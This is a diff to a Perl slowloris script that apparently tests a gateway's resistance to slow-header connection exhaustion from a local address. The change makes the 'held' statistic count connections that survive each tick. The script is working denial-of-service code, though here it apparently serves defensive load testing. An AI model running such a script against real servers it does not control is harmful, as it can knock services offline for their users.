@@ -4,7 +4,8 @@
 # from one local address, each sending a request line and then one more header line every
 # INTERVAL seconds, never ending its headers; a connection the gateway closes (or refuses)
 # is opened again at the next tick, as a real attacker would. Stops after SECONDS and prints
-# one line: "slowloris: opened N, held min/avg/max M/A/X, reopened R, refused F".
+# one line: "slowloris: opened N, held min/avg/max M/A/X, reopened R, refused F", where
+# held counts, at each tick after the first, the connections still open since the last.
 #
 #   slowloris.pl PORT [FROM=127.0.0.2] [CONNECTIONS=600] [SECONDS=20] [INTERVAL=1]
 #
@@ -52,27 +53,28 @@ my $end = time + $secs;
 my $first = 1;
 while (time < $end) {
 	my $tick = time;
-	my $open = 0;
+	my $kept = 0;
 	for my $i (0 .. $n - 1) {
 		my $s = $socks[$i];
 		if ($s && (closed($s) || !defined syswrite($s, 'X-Slow-' . $line++ . ": 1\r\n"))) {
 			close $s;
 			$s = undef;
 		}
+		elsif ($s) { $kept++ }
 		if (!$s) {
 			$reopened++ unless $first;
 			$s = open_one();
 		}
 		$socks[$i] = $s;
-		$open++ if $s;
 		last if time >= $end;
 	}
-	push @held, $open;
+	push @held, $kept unless $first;
 	if ($first) { print STDERR "ready\n"; $first = 0 }
 	my $left = $interval - (time - $tick);
 	sleep $left if $left > 0;
 }
 close $_ for grep { defined } @socks;
+@held = (0) unless @held;
 my ($min, $max, $sum) = ($held[0], $held[0], 0);
 for (@held) { $min = $_ if $_ < $min; $max = $_ if $_ > $max; $sum += $_ }
 printf "slowloris: opened %d, held min/avg/max %d/%.0f/%d, reopened %d, refused %d\n",
